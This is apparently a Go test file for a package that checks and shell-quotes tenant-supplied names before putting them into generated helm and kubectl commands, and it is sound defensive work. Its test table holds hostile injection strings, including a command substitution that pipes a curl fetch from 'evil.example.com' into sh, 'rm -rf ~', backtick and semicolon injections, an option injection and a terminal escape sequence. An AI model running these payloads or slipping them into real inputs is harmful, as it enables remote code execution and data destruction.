package shellcmd

import (
	"strings"
	"testing"
)

// hostile are values a tenant can write into a Helm record, a label or a bundle, each of
// which would run something, or change what runs, if printed as it is.
var hostile = map[string]string{
	"command substitution": "app$(curl${IFS}-s${IFS}evil.example.com|sh)",
	"backticks":            "app`id`",
	"semicolon":            "app;rm -rf ~",
	"newline":              "app\nrm -rf ~",
	"carriage return":      "app\r; id",
	"single quote":         "app'; id; '",
	"double quote":         `app"; id; "`,
	"look-alike":           "аpp", // Cyrillic а
	"option":               "--post-renderer=/tmp/evil",
	"pipe":                 "app|sh",
	"glob":                 "app*",
	"empty":                "",
	"too long":             strings.Repeat("a", 54),
}

// Every hostile value fails every kind of name, and so withholds the command; the line that
// stands in for it is one line, a shell comment, and shows the value quoted so that nothing
// in it runs if the line is pasted.
func TestHostileValuesWithholdTheCommand(t *testing.T) {
	for _, k := range []Kind{Name, Namespace, DNSLabel, Release, Integer, LabelValue, Image, Word} {
		for what, v := range hostile {
			if what == "too long" && k != Release && k != Integer || k == LabelValue && what == "empty" {
				continue // 54 letters are too long only for a release name; a label value may be empty
			}
			got := Sprintf("helm -n tenant-a rollback %s 1", Value(k, "release name", v))
			if !IsWithheld(got) {
				t.Errorf("%s %s %q: printed %q", k, what, v, got)
				continue
			}
			if strings.ContainsAny(got, "\n\r") || !strings.HasPrefix(got, "# command withheld: release name ") {
				t.Errorf("%s %s: the withheld line is %q", k, what, got)
			}
		}
	}
}

func TestWithheldLineNamesTheRule(t *testing.T) {
	got := Sprintf("helm -n %s rollback %s %s", Value(Namespace, "namespace", "tenant-a"),
		Value(Release, "release name", hostile["command substitution"]), Int(1))
	want := `# command withheld: release name 'app$(curl${IFS}-s${IFS}evil.example.com|sh)' is not a valid Helm release name (want lower-case letters, digits, '-' and '.', starting and ending with a letter or digit)`
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	if got := Sprintf("kubectl -p '{\"a\":%s}'", Program("kubectl", Target{Context: "x"})); !IsWithheld(got) {
		t.Errorf("a program inside quotes: %s", got)
	}
	if got := Sprintf("kubectl get %s", Int(-1)); !IsWithheld(got) {
		t.Errorf("a negative number: %s", got)
	}
	long := Sprintf("kubectl get pod %s", Value(Name, "", "x\n"+strings.Repeat("y", 80)))
	if !strings.Contains(long, `object name 'x⏎yyy`) || !strings.Contains(long, `…' is not a valid object name`) {
		t.Errorf("a long value is not shown cut, on one line: %s", long)
	}
}

// Valid values print as they are where they need no quotes, and quoted where they do; a
// value inside the command's own single quotes (a JSON patch) stands as it is.
func TestValidValuesArePlacedByTheirQuoting(t *testing.T) {
	for want, got := range map[string]string{
		"helm -n cattle-fleet-system rollback fleet-agent-c-m-1 4": Sprintf("helm -n %s rollback %s %s",
			Value(Namespace, "", "cattle-fleet-system"), Value(Release, "", "fleet-agent-c-m-1"), Int(4)),
		`kubectl patch plans.upgrade.cattle.io p --type merge -p '{"spec":{"upgrade":{"image":"rancher/k3s-upgrade:v1.30.4-k3s1"}}}'`: Sprintf(
			`kubectl patch plans.upgrade.cattle.io %s --type merge -p '{"spec":{"upgrade":{"image":"%s"}}}'`, Value(Name, "", "p"), Value(Image, "", "rancher/k3s-upgrade:v1.30.4-k3s1")),
		"kubectl label node n1 plan.upgrade.cattle.io/k3s-server-": Sprintf("kubectl label node %s %s-", Value(Name, "", "n1"), Value(LabelKey, "", "plan.upgrade.cattle.io/k3s-server")),
		"kubectl --kubeconfig '/home/ops/my configs/eu.yaml' --context 'it'\\''s prod' --server https://rancher.example.com/k8s/clusters/c-m-1 get pods": Sprintf("%s get pods",
			Program("kubectl", Target{Kubeconfig: "/home/ops/my configs/eu.yaml", Context: "it's prod", Server: "https://rancher.example.com/k8s/clusters/c-m-1"})),
		"helm --kube-context=-x --kube-apiserver https://h history r":            Sprintf("%s history %s", Program("helm", Target{Context: "-x", Server: "https://h"}), Value(Release, "", "r")),
		"kubectl --context <management-context> get clusters.fleet.cattle.io -A": Sprintf("%s get clusters.fleet.cattle.io -A", Program("kubectl", Target{Placeholder: "<management-context>"})),
	} {
		if got != want {
			t.Errorf("got  %s\nwant %s", got, want)
		}
	}
}

// A kubeconfig context is the user's own free text: quoted, whatever it holds, except
// control characters, which withhold the command.
func TestContextsAreQuoted(t *testing.T) {
	for in, want := range map[string]string{
		"prod-eu-1": "prod-eu-1", "arn:aws:eks:eu-west-1:1:cluster/x": "arn:aws:eks:eu-west-1:1:cluster/x",
		"a b": "'a b'", "x;rm -rf ~": "'x;rm -rf ~'", "it's": `'it'\''s'`, "$(id)": "'$(id)'", "`id`": "'`id`'",
	} {
		if got := Quote(in); got != want {
			t.Errorf("Quote(%q) = %s, want %s", in, got, want)
		}
	}
	for _, bad := range []string{"prod\nid", "prod\x1b]52;c;eA==\x07", ""} {
		if got := Sprintf("%s get pods", Program("kubectl", Target{Context: bad})); !IsWithheld(got) {
			t.Errorf("context %q: printed %s", bad, got)
		}
	}
}

// Fill puts each known placeholder's value where it stands, checked and quoted, leaves the
// others, and stops at the first value that fails.
func TestFill(t *testing.T) {
	values := map[string]Arg{
		"namespace": Value(Namespace, "namespace", "tenant-a"), "release": Value(Release, "release", "app"),
		"rev": Int(2), "bad": Value(Release, "release", "a;b"), "path": Value(Word, "path", "apf/flow schema.yaml"),
	}
	lookup := func(name string) (Arg, bool) { a, ok := values[name]; return a, ok }
	for in, want := range map[string]string{
		"kubectl -n <namespace> get secret sh.helm.release.v1.<release>.v<rev> <other>": "kubectl -n tenant-a get secret sh.helm.release.v1.app.v2 <other>",
		"cat <<EOF <unknown> <namespace":                                                "cat <<EOF <unknown> <namespace",
		"<rev><rev>< rev>":                                                              "22< rev>",
	} {
		if got, err := Fill(in, lookup); err != nil || got != want {
			t.Errorf("Fill(%q) = %q (%v), want %q", in, got, err, want)
		}
	}
	for _, in := range []string{"helm rollback <bad> 1", `kubectl get x -o jsonpath='{" <path>"}'`} {
		if got, err := Fill(in, lookup); err == nil {
			t.Errorf("Fill(%q) = %q, want an error", in, got)
		}
	}
}

func TestQuotingAfter(t *testing.T) {
	for prefix, want := range map[string]quoting{
		"kubectl get x ":                  bare,
		`kubectl patch -p '{"a":"`:        single,
		`kubectl patch -p '{"a":"x"}' `:   bare,
		`echo "a `:                        double,
		`echo \' `:                        bare,
		`echo "it\"s `:                    double,
		`jq '.x' | grep -e 'apiVersion: `: single,
	} {
		if got := quotingAfter(prefix); got != want {
			t.Errorf("quotingAfter(%q) = %d, want %d", prefix, got, want)
		}
	}
}

// A number is a decimal without sign or leading zero: a revision of "-1" or "1;id" is no
// revision.
func TestKinds(t *testing.T) {
	valid := map[Kind][]string{
		Name:         {"fleet-agent-c-m-1", "widgets.apps.example.com", "sh.helm.release.v1.app.v2"},
		Namespace:    {"cattle-fleet-system", "c-m-4x7kq2zt"},
		Release:      {"fleet-agent-c-m-1", "rancher-monitoring-crd", "a.b", strings.Repeat("a", 53)},
		Integer:      {"0", "1", "42"},
		LabelKey:     {"plan.upgrade.cattle.io/k3s-server", "node-role.kubernetes.io/control-plane"},
		LabelValue:   {"", "abc123", "a_b.c-d"},
		Image:        {"rancher/kubectl:v1.30.3", "registry.example.com:5000/team/app@sha256:" + strings.Repeat("a", 64)},
		GroupVersion: {"v1", "apps/v1", "policy/v1beta1"},
		Word:         {"v0.16.0", "apf/flowschema.yaml", "sha256:abc", "v1.32"},
	}
	invalid := map[Kind][]string{
		Release:      {"App", "a_b", "-a", "a.", strings.Repeat("a", 54)},
		Integer:      {"-1", "01", "1;id", "1e3", " 1"},
		Image:        {" rancher/kubectl", "rancher/kubectl:v1;id", "[::1]:5000/app"},
		GroupVersion: {"apps/v1/x", "Apps/v1"},
		Word:         {"-x", "a b", "a'b", "a$b", "<x>"},
	}
	for k, vs := range valid {
		for _, v := range vs {
			if err := Check(k, v); err != nil {
				t.Errorf("%s %q: %v", k, v, err)
			}
		}
	}
	for k, vs := range invalid {
		for _, v := range vs {
			if Check(k, v) == nil {
				t.Errorf("%s %q passes", k, v)
			}
		}
	}
}
